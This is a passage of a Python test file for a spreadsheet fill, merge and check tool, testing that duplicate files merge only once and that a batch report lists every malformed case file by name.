    ret = fill(ws.issued("csc"), ws.inbox / "csc.xlsx", {AREA: dict(U)})
    copy = ws.inbox / "csc-copy.xlsx"
    copy.write_bytes(ret.read_bytes())
    # The same path twice is read once; the same bytes under another name merge once.
    run = ws.merge(ret, ret, copy)
    outcomes = [r["outcome"] for r in receipts(ws)]
    changes = [c for c in live_changes(ws) if c["agency"] == "CSC"]
    right = (
        run.code == 0
        and outcomes == ["merged", "unchanged"]
        and len(changes) == len({(c["area_id"], c["field"]) for c in changes})
    )
    judge(run, refused=False, right=right)
    assert right, (run.describe(), outcomes, changes)


def test_every_case_file_is_reported_by_name_in_the_report(ws: WS, good: Path) -> None:
    """A report of the whole table in one batch: every file has a row, the good one is valid,
    nothing in the workspace changes."""
    folder = ws.root.parent / "cases"
    folder.mkdir()
    files = [c.make(ws, folder) for c in BOMBS[:-1]]
    report = ws.outside / "all.csv"
    run = ws.check(good, *files, report=report)
    assert not run.crashed, run.describe()
    rows = report_rows(report)
    assert {r["File"] for r in rows} == {good.name, *(f.name for f in files)}
    assert set(errors_by_file(rows)) == {f.name for f in files}
